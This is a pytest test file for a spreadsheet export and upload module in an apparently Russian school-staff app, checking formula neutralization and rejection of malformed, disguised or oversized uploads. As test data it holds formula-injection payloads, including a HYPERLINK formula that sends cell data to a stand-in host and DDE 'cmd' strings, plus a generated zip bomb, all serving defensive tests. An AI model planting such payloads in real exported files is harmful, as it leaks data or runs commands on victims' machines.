"""apps.core.xlsx: workbooks written for export, and uploads checked before anything reads them."""

import io
import zipfile
from datetime import date, datetime
from pathlib import Path
from urllib.parse import unquote

import openpyxl
import pytest

from apps.core.exceptions import DomainError
from apps.core.xlsx import (
    Column,
    Sheet,
    check_xlsx_upload,
    neutralize,
    read_uploaded_rows,
    write_workbook,
    xlsx_response,
)

from .conftest import read_response, upload, workbook_bytes

DATA = Path(__file__).parent / "data"


@pytest.mark.parametrize(
    "value",
    [
        "=1+2",
        '=HYPERLINK("http://evil.example/?"&A1,"Нажмите")',
        "+1+2",
        "-2+3",
        "@SUM(A1:A2)",
        "\t=1+2",
        "\r=1+2",
        "=cmd|' /C calc'!A0",
        "-Иванов",
    ],
)
def test_values_that_could_be_formulas_are_prefixed(value):
    assert neutralize(value) == "'" + value


@pytest.mark.parametrize("value", ["Иванова", "+7 (912) 345-67-89", "-5", "a=b", "", "учитель-логопед"])
def test_harmless_values_are_kept(value):
    assert neutralize(value) == value


def test_formulas_never_reach_the_sheet_as_formulas():
    rows = [("=1+2", "@SUM(A1)", "+cmd|' /C calc'!A0", "-1-HYPERLINK()", "\t=2", "+7 912 345-67-89")]
    data = write_workbook(Sheet("Лист", [Column(f"К{i}") for i in range(6)], rows))
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    cells = next(ws.iter_rows(min_row=2))
    assert all(cell.data_type == "s" for cell in cells)
    assert [cell.value for cell in cells] == [
        "'=1+2",
        "'@SUM(A1)",
        "'+cmd|' /C calc'!A0",
        "'-1-HYPERLINK()",
        "'\t=2",
        "+7 912 345-67-89",
    ]


def test_header_is_bold_frozen_filtered_and_dates_are_real_dates():
    rows = [("Соловьёва Елена Петровна", date(1980, 5, 17), datetime(2026, 9, 1, 9, 30), 12, True)]
    columns = [Column("ФИО", 30), Column("Дата"), Column("Когда"), Column("Стаж", 8), Column("Флаг")]
    ws = openpyxl.load_workbook(io.BytesIO(write_workbook(Sheet("Педагоги", columns, rows)))).active
    assert ws.title == "Педагоги"
    assert [c.value for c in ws[1]] == ["ФИО", "Дата", "Когда", "Стаж", "Флаг"]
    assert all(c.font.b for c in ws[1])
    assert ws.freeze_panes == "A2"
    assert ws.auto_filter.ref == "A1:E2"
    assert ws.column_dimensions["A"].width == 30
    name, born, when, years, flag = (c for c in ws[2])
    assert name.value == "Соловьёва Елена Петровна"
    assert born.is_date and born.value.date() == date(1980, 5, 17)
    assert born.number_format == "DD.MM.YYYY"
    assert when.is_date and when.value == datetime(2026, 9, 1, 9, 30)
    assert years.value == 12
    assert flag.value == "да"


def test_response_has_a_russian_file_name_in_rfc5987_form():
    response = xlsx_response("Реестр педагогов 25.11.2026.xlsx", Sheet("Лист", [Column("А")], [("б",)]))
    disposition = response["Content-Disposition"]
    assert disposition.startswith("attachment;")
    assert "filename*=UTF-8''" in disposition
    assert unquote(disposition.split("filename*=UTF-8''")[1]) == "Реестр педагогов 25.11.2026.xlsx"
    assert 'filename="' in disposition  # ASCII fallback for old clients
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    assert read_response(response).active["A2"].value == "б"


# Uploads ----------------------------------------------------------------------------------------


def test_a_plain_workbook_is_read_and_trailing_empty_rows_dropped():
    data = workbook_bytes([["Иванова", "Мария"], [None, None]], headers=["Фамилия", "Имя"])
    assert read_uploaded_rows(upload(data)) == [("Фамилия", "Имя"), ("Иванова", "Мария")]


def test_too_big_a_file_is_refused(settings):
    settings.UPLOAD_MAX_BYTES = 1000
    with pytest.raises(DomainError, match="слишком большой"):
        check_xlsx_upload(upload(workbook_bytes([["x"] * 50] * 50)))


@pytest.mark.parametrize("name", ["staff.xls", "staff.csv", "staff.xlsx.exe", "staff"])
def test_a_file_without_the_xlsx_extension_is_refused(name):
    with pytest.raises(DomainError, match=r"\.xlsx"):
        check_xlsx_upload(upload(workbook_bytes([]), name))


def test_a_password_protected_workbook_gives_a_clear_message():
    # A real workbook encrypted by Excel's agile encryption (made with msoffcrypto-tool).
    data = (DATA / "password_protected.xlsx").read_bytes()
    with pytest.raises(DomainError, match="защищена паролем"):
        read_uploaded_rows(upload(data))


def test_an_old_xls_renamed_to_xlsx_is_refused():
    data = bytes.fromhex("d0cf11e0a1b11ae1") + b"\x00" * 2000 + "Workbook".encode("utf-16-le")
    with pytest.raises(DomainError, match="старого формата"):
        read_uploaded_rows(upload(data))


def test_a_csv_renamed_to_xlsx_is_refused():
    with pytest.raises(DomainError, match="не является книгой Excel"):
        read_uploaded_rows(upload("Фамилия;Имя\nИванова;Мария\n".encode()))


def test_an_empty_file_is_refused():
    with pytest.raises(DomainError, match="пустой"):
        read_uploaded_rows(upload(b""))


def test_a_truncated_workbook_is_refused():
    data = workbook_bytes([["Иванова", "Мария"]])
    with pytest.raises(DomainError, match="повреждён"):
        read_uploaded_rows(upload(data[: len(data) // 2]))


def test_a_word_document_renamed_to_xlsx_is_refused():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<w:document/>")
    with pytest.raises(DomainError, match="не книга Excel"):
        read_uploaded_rows(upload(buffer.getvalue()))


def test_a_workbook_with_broken_xml_inside_is_refused():
    source = zipfile.ZipFile(io.BytesIO(workbook_bytes([["Иванова"]])))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename.startswith("xl/worksheets/"):
                content = b"<worksheet><sheetData><row><c r='A1' t='s'><v>oops"
            archive.writestr(item, content)
    with pytest.raises(DomainError, match="поврежд"):
        read_uploaded_rows(upload(buffer.getvalue()))


def test_a_zip_bomb_is_refused_before_it_is_unpacked():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression=zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("xl/workbook.xml", "<workbook/>")
        archive.writestr("xl/worksheets/sheet1.xml", b"0" * (50 * 1024 * 1024))
    with pytest.raises(DomainError, match="слишком велик"):
        read_uploaded_rows(upload(buffer.getvalue()))


def test_too_many_rows_are_refused():
    data = workbook_bytes([["Иванова"]] * 30, headers=["Фамилия"])
    with pytest.raises(DomainError, match="больше 20 строк"):
        read_uploaded_rows(upload(data), max_rows=20)
